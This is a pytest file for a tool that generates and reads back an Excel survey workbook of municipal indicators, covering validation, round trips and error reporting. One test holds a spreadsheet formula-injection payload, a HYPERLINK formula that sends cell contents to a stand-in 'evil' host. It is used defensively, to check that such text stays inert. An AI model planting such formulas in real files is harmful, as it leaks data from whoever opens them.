"""The fill-in workbook: what it offers, its validation, and reading it back filled."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

import mint_index as mi
from mint_index.data.template import (
    MEASURES_SHEET,
    collected_variables,
    read_template,
    read_template_measures,
    write_template,
)
from mint_index.recommendations import load_rules

openpyxl = pytest.importorskip("openpyxl")

UNITS = pd.DataFrame({"unit": ["08999001", "08999002"], "name": ["Auenthal", "Brennhausen"]})


@pytest.fixture(scope="module")
def fw() -> mi.Framework:
    return mi.default_framework()


@pytest.fixture()
def workbook(fw: mi.Framework, tmp_path: Path) -> Path:
    actions = list(load_rules().actions)
    return write_template(fw, tmp_path / "erhebung.xlsx", units=UNITS, year=2024, actions=actions)


def _column(sheet, variable: str) -> str:  # type: ignore[no-untyped-def]
    for cell in sheet[2]:
        if cell.value == variable:
            return cell.column_letter
    raise AssertionError(f"no column {variable}")


def _sheet_with(book, variable: str):  # type: ignore[no-untyped-def]
    for sheet in book.worksheets:
        if any(cell.value == variable for cell in sheet[2]):
            return sheet
    raise AssertionError(f"no sheet has {variable}")


def test_offers_every_variable_not_from_an_official_table(fw: mi.Framework, workbook: Path) -> None:
    collected = {v.id for v in collected_variables(fw)}
    # the source catalog: 41 self-reported and 18 undetermined variables (official-sources.md
    # 37 and 8, plus pop_mig, pop_u18_mig, naturalisations_tcn, tcn_res_8y_start and the
    # four Kita, four grade-8 and two apprentice counts no official table gives)
    assert len(collected) == 59
    assert "council_seats_mig" in collected and "pop_total" not in collected
    book = openpyxl.load_workbook(workbook)
    offered = {
        cell.value
        for sheet in book.worksheets
        if sheet.title not in (MEASURES_SHEET, "Listen")
        for cell in sheet[2][3:]
    }
    assert offered == collected
    # one sheet per domain that has such variables, the measures sheet, the hidden lists
    assert book.sheetnames[0] == "Politische und"  # "Politische und zivilgesellschaftliche ..."
    assert book.sheetnames[-2:] == [MEASURES_SHEET, "Listen"]
    assert book["Listen"].sheet_state == "hidden"


def test_units_prefilled_and_headers_explained(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = _sheet_with(book, "council_seats")
    assert [sheet["A3"].value, sheet["B3"].value, sheet["C3"].value] == [
        "08999001",
        "Auenthal",
        2024,
    ]
    assert sheet["A4"].value == "08999002"
    column = _column(sheet, "council_seats")
    comment = sheet[f"{column}1"].comment.text
    assert comment.startswith("Sitze im Gemeinderat")
    assert "Anzahl" in comment and "Ratsbüro" in comment
    # the definition in German, as the framework gives it, not its English twin
    definition = mi.default_framework().variable_map["council_seats"].description
    assert f"Definition: {definition.de}" in comment and definition.en not in comment
    assert "Gemeindeordnung" in definition.de


def test_validation_matches_each_variable_unit(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = _sheet_with(book, "council_seats")
    rules = {}
    for rule in sheet.data_validations.dataValidation:
        for ref in str(rule.sqref).split():
            rules[ref[0 : ref.index("3")].rstrip("$")] = rule
    count = rules[_column(sheet, "council_seats")]
    assert (count.type, count.operator, count.formula1) == ("whole", "greaterThanOrEqual", "0")
    code = rules[_column(sheet, "advisory_council_status")]
    assert (code.type, code.formula1) == ("list", '"0,1,2"')  # the indicator's answer levels
    measures = book[MEASURES_SHEET].data_validations.dataValidation
    listed = next(r for r in measures if r.type == "list")
    assert listed.formula1 == f"'Listen'!$A$1:$A${len(load_rules().actions)}"


def test_round_trip_with_values(workbook: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = _sheet_with(book, "council_seats")
    seats, seats_mig = _column(sheet, "council_seats"), _column(sheet, "council_seats_mig")
    status = _column(sheet, "advisory_council_status")
    sheet[f"{seats}3"], sheet[f"{seats_mig}3"], sheet[f"{status}3"] = 44, 3, 2
    sheet[f"{seats}4"] = 32  # Brennhausen: only one figure collected so far
    book[MEASURES_SHEET]["B3"], book[MEASURES_SHEET]["C3"] = "mit_training_programme", 2022
    filled = tmp_path / "filled.xlsx"
    book.save(filled)

    _assert_reads_as_entered(filled)


def _assert_reads_as_entered(filled: Path) -> None:
    """The figures and the measure the round trip enters, as read back."""
    cells = read_template(filled)
    got = {(r.unit, int(r.year), r.variable): r.value for r in cells.itertuples()}
    assert got == {
        ("08999001", 2024, "council_seats"): 44,
        ("08999001", 2024, "council_seats_mig"): 3,
        ("08999001", 2024, "advisory_council_status"): 2,
        ("08999002", 2024, "council_seats"): 32,
    }
    assert read_template_measures(filled).to_dict("records") == [
        {"unit": "08999001", "measure": "mit_training_programme", "since": 2022}
    ]


def test_a_workbook_filled_in_libreoffice_reads_alike() -> None:
    """tests/fixtures/workbooks/erhebung.ods: this template with the figures of the round
    trip above entered, saved by LibreOffice as OpenDocument (make.py)."""
    pytest.importorskip("python_calamine")
    _assert_reads_as_entered(Path(__file__).parent / "fixtures" / "workbooks" / "erhebung.ods")


def test_problems_name_the_sheet_row_and_column(workbook: Path, tmp_path: Path) -> None:
    """A typo in a filled workbook is found where the office typed it: the sheet, its
    row as the office suite numbers it, and the variable's column. A year cell of 2024.5
    or 1e308 is such a typo too (it used to stop the reader: exit 3)."""
    book = openpyxl.load_workbook(workbook)
    sheet = _sheet_with(book, "council_seats")
    seats = _column(sheet, "council_seats")
    sheet[f"{seats}3"], sheet[f"{seats}4"] = 44, "vierzig"  # Brennhausen: row 4
    other = _sheet_with(book, "recognition_decided")
    decided = _column(other, "recognition_decided")
    other[f"{decided}3"], other["C3"] = 12, 1e308
    other[f"{decided}4"], other["C4"] = 7, 2024.5
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    (tmp_path / "mint-index.yaml").write_text(
        "sources:\n  - path: filled.xlsx\n    format: template\n", encoding="utf-8"
    )
    with pytest.raises(mi.DataValidationError) as err:
        mi.load_project(tmp_path / "mint-index.yaml").data  # noqa: B018
    where = err.value.failures.set_index(["source", "row", "column"])["value"]
    named = {(Path(s).name, r, c): v for (s, r, c), v in where.items()}
    assert named[(f"filled.xlsx[{sheet.title}]", 4, "council_seats")] == "vierzig"
    assert named[(f"filled.xlsx[{other.title}]", 3, "year")] == "1e+308"
    assert named[(f"filled.xlsx[{other.title}]", 4, "year")] == "2024.5"


def test_an_edited_ids_row(workbook: Path, tmp_path: Path) -> None:
    """Row 2 holds the ids the figures are read by. Without its ``year`` id the source's
    year dates the sheet; an id given twice leaves unknown which cell is which, and is
    said so (both used to stop the reader: exit 3)."""
    book = openpyxl.load_workbook(workbook)
    sheet = _sheet_with(book, "council_seats")
    sheet[f"{_column(sheet, 'council_seats')}3"] = 44
    sheet["C2"] = None  # the year id cleared
    book.save(tmp_path / "no_year.xlsx")
    cells = read_template(tmp_path / "no_year.xlsx")
    assert cells.to_dict("records") == [
        {"unit": "08999001", "variable": "council_seats", "value": 44}
    ]
    seats_mig = _column(sheet, "council_seats_mig")
    sheet[f"{seats_mig}2"] = "council_seats"  # an id given twice
    book.save(tmp_path / "twice.xlsx")
    with pytest.raises(mi.MintIndexError, match=r"row 2 names council_seats more than once"):
        read_template(tmp_path / "twice.xlsx")


def test_yes_no_and_numbers_typed_as_keys(fw: mi.Framework, tmp_path: Path) -> None:
    """A unit key typed as a number keeps its digits; ja/nein read as 1/0."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Gebietsschlüssel", "Name", "Jahr", "x", "y"])
    sheet.append(["unit", "name", "year", "x", "y"])
    sheet.append([8999001, "Auenthal", 2023, "ja", "nein"])
    sheet.append([8999002, "Brennhausen", 2023, None, " "])
    path = tmp_path / "own.xlsx"
    book.save(path)
    cells = read_template(path)
    assert cells.to_dict("records") == [
        {"unit": "8999001", "year": 2023, "variable": "x", "value": 1.0},
        {"unit": "8999001", "year": 2023, "variable": "y", "value": 0.0},
    ]


def test_a_unit_named_like_a_formula_is_text_in_the_workbook(
    fw: mi.Framework, tmp_path: Path
) -> None:
    """A units table naming a unit ``=HYPERLINK(...)`` made a live formula in every
    sheet of the workbook a town hands out (openpyxl takes text starting with ``=`` for a
    formula); the CSV outputs escaped it, the workbook did not."""
    import zipfile

    hostile = '=HYPERLINK("http://evil/?"&A1,"x")'
    units = pd.DataFrame({"unit": ["=1+1", "08999002"], "name": [hostile, "Brennhausen"]})
    path = write_template(fw, tmp_path / "e.xlsx", units=units, actions=["a"])
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets[:-1]:  # the hidden list of measures holds no units
        assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
    first = book.worksheets[0]
    assert (first["B3"].value, first["B3"].data_type) == (hostile, "s")


def test_not_a_workbook_is_a_clear_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.xlsx"
    bad.write_text("no workbook", encoding="utf-8")
    with pytest.raises(mi.MintIndexError, match=r"not a readable Excel or OpenDocument workbook"):
        read_template(bad)


def test_without_a_year_the_source_gives_it(fw: mi.Framework, tmp_path: Path) -> None:
    path = write_template(fw, tmp_path / "e.xlsx", units=UNITS)  # no year prefilled
    book = openpyxl.load_workbook(path)
    sheet = _sheet_with(book, "council_seats")
    sheet[f"{_column(sheet, 'council_seats')}4"] = 30
    book.save(path)
    cells = read_template(path)
    assert list(cells.columns) == ["unit", "variable", "value"]
    assert cells.values.tolist() == [["08999002", "council_seats", 30]]


def test_yes_no_variables_get_a_yes_no_list(tmp_path: Path) -> None:
    """A binary indicator without levels scores 0/1: its variable is offered as ja/nein."""
    (tmp_path / "fw.yaml").write_text(
        """\
framework: {id: own, label: {de: Eigen, en: Own}}
index: {id: index, label: {de: Index, en: Index}}
variables:
  - {id: has_council, unit: code, label: {de: Beirat vorhanden, en: Advisory council}}
  - {id: share_mig, unit: percent}
nodes:
  - {id: all, parent: index, label: {de: Alle, en: All}}
indicators:
  - id: council
    parent: all
    name: {de: Beirat, en: Council}
    description: {de: "Gibt es einen Beirat?", en: "Is there a council?"}
    unit: level
    direction: higher
    kind: binary
    compute: {type: direct, variable: has_council}
    source: {publisher: Stadt}
  - id: share
    parent: all
    name: {de: Anteil, en: Share}
    description: {de: Anteil, en: Share}
    unit: "%"
    direction: higher
    kind: rate
    compute: {type: direct, variable: share_mig}
    goalposts: {lower: 0, upper: 50}
    source: {publisher: Stadt}
""",
        encoding="utf-8",
    )
    own = mi.load_framework(tmp_path / "fw.yaml")
    path = write_template(own, tmp_path / "e.xlsx", units=UNITS, lang="en")
    sheet = openpyxl.load_workbook(path)["All"]
    rules = {str(r.sqref).split(":")[0]: r for r in sheet.data_validations.dataValidation}
    assert (rules["D3"].type, rules["D3"].formula1) == ("list", '"yes,no"')
    assert (rules["E3"].type, rules["E3"].formula1, rules["E3"].formula2) == (
        "decimal",
        "0",
        "100",
    )


def test_an_unknown_language_is_refused_before_writing(fw: mi.Framework, tmp_path: Path) -> None:
    from mint_index.errors import UnknownLanguageError

    with pytest.raises(UnknownLanguageError, match="valid: de, en"):
        write_template(fw, tmp_path / "fr.xlsx", lang="fr")
    assert not (tmp_path / "fr.xlsx").exists()
